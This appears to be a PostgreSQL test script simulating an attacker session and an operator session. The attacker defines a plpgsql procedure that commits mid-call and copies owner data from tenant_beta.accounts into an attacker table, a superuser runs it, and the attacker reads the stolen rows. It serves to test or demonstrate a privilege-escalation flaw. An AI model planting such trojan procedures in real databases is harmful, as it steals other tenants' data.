-- A superuser calls the attacker's procedure, which commits in between.
CREATE TABLE stolen (what text);
CREATE PROCEDURE bait() LANGUAGE plpgsql AS $$
BEGIN
    COMMIT;
    INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts;
    COMMIT;
END
$$;
-- @session operator
CALL tenant_alpha.bait();
-- @session attacker
TABLE stolen;
